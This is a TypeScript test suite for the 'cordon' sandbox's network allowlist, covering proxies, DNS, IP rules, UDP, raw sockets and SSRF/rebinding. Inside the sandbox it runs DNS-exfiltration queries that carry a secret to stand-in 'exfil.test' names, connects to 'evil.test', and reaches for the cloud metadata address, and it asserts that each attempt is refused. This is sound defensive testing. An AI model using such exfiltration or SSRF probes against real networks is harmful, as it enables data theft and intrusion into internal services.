// Allowlist networking against real sandboxes: every client policed (proxy-ignoring and
// proxy-aware), denials with their positive controls, DNS that never forwards, SSRF/rebinding,
// raw sockets and UDP. Test servers listen on loopback only.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { after, before, describe, it } from 'node:test';

import { bannerServer, closeSandboxes, hostConnect, netSandbox, py, type AuditCapture, type TestServer } from './helpers.js';

let api: TestServer; // "api.test" (hosts map → 127.0.0.1)
let other: TestServer; // a second port on 127.0.0.1 that no rule allows
let ip3: TestServer; // 127.0.0.3, reached by IP rules
let ip4: TestServer; // 127.0.0.4, never allowed
let web: { port: number; close(): Promise<void> }; // an HTTP server on 127.0.0.1

async function webServer(): Promise<{ port: number; close(): Promise<void> }> {
  const srv = http.createServer((req, res) => res.end(`web ${req.method} ${req.url} host=${req.headers.host}`));
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
  return { port: (srv.address() as AddressInfo).port, close: () => new Promise<void>((r) => srv.close(() => r())) };
}

before(async () => {
  api = await bannerServer('api');
  other = await bannerServer('other');
  ip3 = await bannerServer('ip3', '127.0.0.3');
  ip4 = await bannerServer('ip4', '127.0.0.4');
  web = await webServer();
});
after(async () => {
  closeSandboxes();
  for (const s of [api, other, ip3, ip4, web]) await s.close();
});

/**
 * A denied TCP connect: refused at connect() when pid 1 brokers it (ECONNREFUSED), or, on the relay
 * path (CORDON_NET_BROKER=0, an IPv4-mapped address), accepted by the capture and reset before any byte
 * (or ends empty).
 */
const REFUSED = /^(err:ECONNREFUSED|err:ECONNRESET|ok:)$/;

const hosts = () => ({ 'api.test': ['127.0.0.1'], 'a.svc.test': ['127.0.0.1'], 'bad.svc.test': ['127.0.0.1'], 'svc.test': ['127.0.0.1'] });

describe('allowed endpoints', () => {
  it('a proxy-ignoring client (getaddrinfo + connect) reaches the allowed endpoint; each decision is audited', async () => {
    const audit: AuditCapture = { events: [] };
    const sb = await netSandbox({ allow: [`api.test:${api.port}`], allowPrivate: true, hosts: hosts() }, audit);
    const before = api.accepted;
    // env -u: no proxy variables at all, the transparent capture is the only path
    const r = await py(sb, `import os\nfor k in list(os.environ):\n    k.lower().endswith('_proxy') and os.environ.pop(k)\nprint(socket.gethostbyname('api.test'))\nprint(tcp('api.test', ${api.port}))`);
    assert.match(r.lines[0] ?? '', /^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d+\.\d+$/, 'a synthetic pool address');
    assert.equal(r.lines[1], 'ok:hello api', r.stderr);
    assert.equal(api.accepted, before + 1);
    const connect = audit.events.find((e) => e.event === 'net.connect');
    assert.ok(connect, JSON.stringify(audit.events));
    assert.equal(connect.verdict, 'allow');
    assert.equal(connect.host, 'api.test');
    assert.equal(connect.address, '127.0.0.1');
    assert.equal(connect.port, api.port);
    assert.match(String(connect.rule), /network\.allow\[0\]/);
    assert.ok(audit.events.some((e) => e.event === 'net.dns' && e.name === 'api.test' && e.verdict === 'allow'));
  });

  it('proxy-aware clients: HTTP CONNECT, plain HTTP forwarding and SOCKS5 with remote DNS (python urllib and raw clients); refusals carry the reason', async () => {
    const sb = await netSandbox({ allow: [`api.test:${web.port}`], allowPrivate: true, hosts: hosts() });
    const r = await py(
      sb,
      `import urllib.request, os
assert os.environ['http_proxy'] == 'http://127.0.0.1:3128' and os.environ['ALL_PROXY'] == 'socks5h://127.0.0.1:3128'
print(urllib.request.urlopen('http://api.test:${web.port}/urllib?x=1', timeout=10).read().decode())
for kind in ['connect', 'forward', 'socks']:
    print(via_proxy(kind, 'api.test', ${web.port}, '/' + kind))
for kind in ['connect', 'forward', 'socks']:
    print(via_proxy(kind, 'nope.test', ${web.port}))`,
    );
    assert.deepEqual(r.lines.slice(0, 4), [
      `web GET /urllib?x=1 host=api.test:${web.port}`,
      `200:web GET /connect host=api.test:${web.port}`,
      `200:web GET /forward host=api.test:${web.port}`,
      `200:web GET /socks host=api.test:${web.port}`,
    ], r.stderr);
    assert.equal(r.lines[4], '403:cordon: no allow rule matches nope.test');
    assert.equal(r.lines[5], '403:cordon: no allow rule matches nope.test');
    assert.equal(r.lines[6], 'socks:2', 'SOCKS5: connection not allowed by ruleset');
    assert.equal(r.violations.filter((v) => v.kind === 'network' && v.what === `nope.test:${web.port}`).length, 3, JSON.stringify(r.violations));
  });

  it('curl through HTTPS_PROXY-style CONNECT and ALL_PROXY SOCKS5', async (t) => {
    if (spawnSync('curl', ['--version']).status !== 0) {
      t.skip('curl is not installed on this machine (the raw-client test above covers the protocols)');
      return;
    }
    const sb = await netSandbox({ allow: [`api.test:${web.port}`], allowPrivate: true, hosts: hosts() });
    const tunnel = await sb.exec(['sh', '-c', `curl -sS --max-time 10 -p -x "$HTTPS_PROXY" http://api.test:${web.port}/tunnel`]);
    assert.equal(tunnel.stdout.toString(), `web GET /tunnel host=api.test:${web.port}`, tunnel.stderr.toString());
    const socks = await sb.exec(['sh', '-c', `curl -sS --max-time 10 -x "$ALL_PROXY" http://api.test:${web.port}/socks`]);
    assert.equal(socks.stdout.toString(), `web GET /socks host=api.test:${web.port}`, socks.stderr.toString());
    const denied = await sb.exec(['sh', '-c', `curl -sS --max-time 10 -p -x "$HTTPS_PROXY" http://nope.test:${web.port}/`]);
    assert.notEqual(denied.exitCode, 0);
    assert.match(denied.stderr.toString(), /403/);
  });
});

describe('refused: hosts, ports, IPs, local services, UDP, raw sockets', () => {
  it('a denied host gets NXDOMAIN, a denied port of an allowed host is reset; both are violations (controls: the allowed host and port work)', async () => {
    const sb = await netSandbox({ allow: [`api.test:${api.port}`], allowPrivate: true, hosts: { ...hosts(), 'evil.test': ['127.0.0.1'] } });
    const otherBefore = other.accepted;
    const r = await py(sb, `print(tcp('api.test', ${api.port}))\nprint(tcp('evil.test', ${api.port}))\nprint(tcp('api.test', ${other.port}))`);
    assert.equal(r.lines[0], 'ok:hello api', r.stderr);
    assert.equal(r.lines[1], 'gai:-2', 'evil.test: EAI_NONAME'); // NXDOMAIN
    assert.match(r.lines[2] ?? '', REFUSED, 'the denied port is reset before any byte');
    assert.equal(other.accepted, otherBefore, 'nothing reached the server on the denied port');
    assert.equal(await hostConnect('127.0.0.1', other.port), 'ok:hello other', 'control: the port is open outside the sandbox');
    assert.ok(r.violations.some((v) => v.what === 'evil.test' && /NXDOMAIN/.test(v.detail)), JSON.stringify(r.violations));
    assert.ok(r.violations.some((v) => v.what === `api.test:${other.port}` && /port .* not allowed/.test(v.detail)), JSON.stringify(r.violations));
  });

  it('IP rules allow exactly what they name; other IPs and the host loopback services are unreachable (controls: reachable from the host)', async () => {
    const sb = await netSandbox({ allow: [`127.0.0.3:${ip3.port}`] });
    const before4 = ip4.accepted;
    const beforeApi = api.accepted;
    const r = await py(sb, `print(tcp('127.0.0.3', ${ip3.port}))\nprint(tcp('127.0.0.4', ${ip4.port}))\nprint(tcp('127.0.0.1', ${api.port}))\nprint(tcp('127.0.0.3', ${ip3.port + 1 > 65535 ? 1 : ip3.port + 1}))`);
    assert.equal(r.lines[0], 'ok:hello ip3', r.stderr);
    assert.equal(r.lines[1], 'err:ECONNREFUSED', 'another loopback IP is the sandbox\'s own, empty loopback');
    assert.equal(r.lines[2], 'err:ECONNREFUSED', 'the host\'s loopback service is not reachable');
    assert.match(r.lines[3] ?? '', REFUSED, 'another port of the allowed IP is refused');
    assert.equal(ip4.accepted, before4);
    assert.equal(api.accepted, beforeApi);
    assert.equal(await hostConnect('127.0.0.4', ip4.port), 'ok:hello ip4');
    assert.equal(await hostConnect('127.0.0.1', api.port), 'ok:hello api');
  });

  it('IPv6 IP rules: [::1]:PORT reaches the host\'s ::1 service through the capture, other ports are refused', async (t) => {
    let v6: TestServer;
    try {
      v6 = await bannerServer('v6', '::1');
    } catch (err) {
      t.skip(`no IPv6 loopback on this host (${(err as Error).message})`);
      return;
    }
    try {
      const sb = await netSandbox({ allow: [`[::1]:${v6.port}`] });
      const r = await py(sb, `print(tcp('::1', ${v6.port}))\nprint(tcp('::1', ${v6.port === 65535 ? 1 : v6.port + 1}))`);
      assert.equal(r.lines[0], 'ok:hello v6', r.stderr);
      assert.match(r.lines[1] ?? '', REFUSED);
      assert.ok(r.violations.some((v) => v.what.startsWith('[::1]:') && /not allowed/.test(v.detail)), JSON.stringify(r.violations));
    } finally {
      await v6.close();
    }
  });

  it('a public IP and the host\'s own non-loopback addresses have no route (nothing leaves the namespace)', async () => {
    const local = Object.values(networkInterfaces()).flat().find((a) => a && !a.internal && a.family === 'IPv4')?.address;
    const sb = await netSandbox({ allow: [`api.test:${api.port}`], allowPrivate: true, hosts: hosts() });
    const r = await py(sb, `print(tcp('192.0.2.1', 80, timeout=3))\nprint(tcp(${JSON.stringify(local ?? '10.255.255.1')}, 22, timeout=3))\nprint(tcp('2001:db8::1', 80, timeout=3))`);
    assert.equal(r.lines[0], 'err:ENETUNREACH', r.stderr);
    assert.equal(r.lines[1], 'err:ENETUNREACH');
    assert.match(r.lines[2] ?? '', /^err:(ENETUNREACH|EADDRNOTAVAIL)$/);
  });

  it('UDP to a public resolver fails at once; raw and packet sockets are refused (controls: UDP to cordon\'s resolver and TCP sockets work)', async () => {
    const sb = await netSandbox({ allow: [`api.test:${api.port}`], allowPrivate: true, hosts: hosts() });
    const r = await py(
      sb,
      String.raw`
def attempt(f):
    try:
        return 'ok:' + str(f())
    except OSError as e:
        return 'err:' + errno.errorcode.get(e.errno, str(e.errno))
q = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('8.8.8.8', 53))))
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)))
print(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)))
print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).fileno() > 0))
def ask(name):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
    u.sendto(b'\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\x00\x00\x01\x00\x01', ('127.0.0.1', 53))
    m = u.recv(512); return m[3] & 15, m[7]
print(attempt(lambda: ask('api.test')))
`,
    );
    assert.equal(r.lines[0], 'err:ENETUNREACH', r.stderr);
    assert.equal(r.lines[1], 'err:EPERM');
    assert.match(r.lines[2] ?? '', /^err:(EPERM|EAFNOSUPPORT|EACCES)$/);
    assert.equal(r.lines[3], 'ok:True');
    assert.equal(r.lines[4], 'ok:(0, 1)', 'NOERROR with one answer from cordon\'s resolver');
  });
});

describe('rule semantics', () => {
  it('*.domain matches subdomains only, and deny wins over allow', async () => {
    const sb = await netSandbox({ allow: [`*.svc.test:${api.port}`], deny: ['bad.svc.test'], allowPrivate: true, hosts: hosts() });
    const r = await py(sb, `for h in ['a.svc.test', 'svc.test', 'bad.svc.test', 'evilsvc.test']:\n    print(tcp(h, ${api.port}))`);
    assert.deepEqual(r.lines, ['ok:hello api', 'gai:-2', 'gai:-2', 'gai:-2'], r.stderr);
    // deny wins on the proxy path too (a hostname, no DNS involved)
    const c = await py(sb, `print(via_proxy('forward', 'bad.svc.test', ${api.port}))`);
    assert.match(c.lines[0] ?? '', /^403:cordon: denied by rule "bad\.svc\.test"/, c.stderr);
    const ipDeny = await netSandbox({ allow: [`127.0.0.0/24:${ip3.port},${ip4.port}`], deny: ['127.0.0.4'] });
    const r2 = await py(ipDeny, `print(tcp('127.0.0.3', ${ip3.port}))\nprint(tcp('127.0.0.4', ${ip4.port}))`);
    assert.equal(r2.lines[0], 'ok:hello ip3', r2.stderr);
    assert.match(r2.lines[1] ?? '', REFUSED);
    assert.ok(r2.violations.some((v) => v.what === `127.0.0.4:${ip4.port}` && /denied by rule/.test(v.detail)));
  });
});

describe('DNS', () => {
  it('denied names are NXDOMAIN and no query reaches any upstream (control: the fake upstream counts a host query)', async (t) => {
    const upstream = dgram.createSocket('udp4');
    let queries = 0;
    upstream.on('message', () => queries++);
    await new Promise<void>((r) => upstream.bind(0, '127.0.0.1', () => r()));
    const upPort = upstream.address().port;
    const dnsMod = await import('node:dns');
    const realLookup = dnsMod.promises.lookup;
    const looked: string[] = [];
    (dnsMod.promises as { lookup: unknown }).lookup = (h: string, o: unknown) => {
      looked.push(h);
      return (realLookup as (h: string, o: unknown) => Promise<unknown>)(h, o);
    };
    t.after(() => {
      (dnsMod.promises as { lookup: unknown }).lookup = realLookup;
      upstream.close();
    });
    const sb = await netSandbox({ allow: [`api.test:${api.port}`], allowPrivate: true, hosts: hosts() });
    const secret = `x${Date.now().toString(16)}`;
    const r = await py(
      sb,
      String.raw`
import time
def raw(name, server, port, tcp=False):
    q = b'\x55\x66\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\x00\x00\x01\x00\x01'
    try:
        if tcp:
            s = socket.create_connection((server, port), timeout=3); s.sendall(len(q).to_bytes(2, 'big') + q); m = s.recv(512)[2:]
        else:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2); u.sendto(q, (server, port)); m = u.recv(512)
        return 'rcode:%d' % (m[3] & 15)
    except OSError as e:
        return 'err:' + (errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__)
t0 = time.time()
print(raw('${secret}.exfil.test', '127.0.0.1', 53))
print(raw('${secret}.exfil.test', '127.0.0.1', 53, tcp=True))
print(tcp('${secret}.exfil2.test', 80))
print(raw('${secret}.exfil3.test', '127.0.0.1', ${upPort}))
print('fast' if time.time() - t0 < 5 else 'slow')
`,
    );
    assert.equal(r.lines[0], 'rcode:3', `NXDOMAIN over UDP ${r.stderr}`);
    assert.equal(r.lines[1], 'rcode:3', 'NXDOMAIN over TCP');
    assert.equal(r.lines[2], 'gai:-2');
    assert.match(r.lines[3] ?? '', /^err:(ECONNREFUSED|TimeoutError)$/, 'the host\'s loopback resolver port is not reachable');
    assert.equal(r.lines[4], 'fast');
    assert.equal(queries, 0, 'no query reached the upstream');
    assert.deepEqual(looked.filter((h) => h.includes(secret)), [], 'the supervisor resolved no denied name on the host');
    // control: the fake upstream does count a query sent from the host
    const c = dgram.createSocket('udp4');
    await new Promise<void>((res) => c.send(Buffer.from('abc'), upPort, '127.0.0.1', () => res()));
    c.close();
    for (let i = 0; i < 50 && queries === 0; i++) await new Promise((res) => setTimeout(res, 10));
    assert.equal(queries, 1);
  });

  it('rebinding/SSRF: an allowed name resolving to loopback or cloud metadata is refused unless allowPrivate (control: allowPrivate connects)', async () => {
    const h = { 'rebind.test': ['127.0.0.1'], 'meta.test': ['169.254.169.254'] };
    const guarded = await netSandbox({ allow: [`rebind.test:${api.port}`, 'meta.test:80'], hosts: h });
    const before = api.accepted;
    const r = await py(guarded, `print(tcp('rebind.test', ${api.port}))\nprint(tcp('meta.test', 80))`);
    assert.match(r.lines[0] ?? '', REFUSED, r.stderr);
    assert.match(r.lines[1] ?? '', REFUSED);
    assert.equal(api.accepted, before, 'the loopback service was never connected to');
    assert.ok(r.violations.some((v) => v.what === `rebind.test:${api.port}` && /127\.0\.0\.1, a loopback address.*SSRF/.test(v.detail)), JSON.stringify(r.violations));
    assert.ok(r.violations.some((v) => v.what === 'meta.test:80' && /169\.254\.169\.254, a link-local/.test(v.detail)));
    const c = await py(guarded, `print(via_proxy('connect', 'rebind.test', ${api.port}))`);
    assert.match(c.lines[0] ?? '', /^403:cordon: rebind\.test resolves to 127\.0\.0\.1.*SSRF/, c.stderr);
    // `*` names no address in particular: the host's loopback and metadata stay guarded
    const star = await netSandbox({ allow: ['*'], hosts: h }, undefined, true);
    const s = await py(star, `print(via_proxy('connect', '127.0.0.1', ${api.port}))\nprint(via_proxy('socks', '169.254.169.254', 80))\nprint(tcp('10.9.8.7', 80))`);
    assert.match(s.lines[0] ?? '', /^403:cordon: .*127\.0\.0\.1, a loopback address/, s.stderr);
    assert.equal(s.lines[1], 'socks:2');
    assert.match(s.lines[2] ?? '', REFUSED);
    assert.equal(api.accepted, before, 'the loopback service was never connected to');
    const open = await netSandbox({ allow: [`rebind.test:${api.port}`], allowPrivate: true, hosts: h });
    const r2 = await py(open, `print(tcp('rebind.test', ${api.port}))`);
    assert.equal(r2.lines[0], 'ok:hello api', r2.stderr);
  });
});
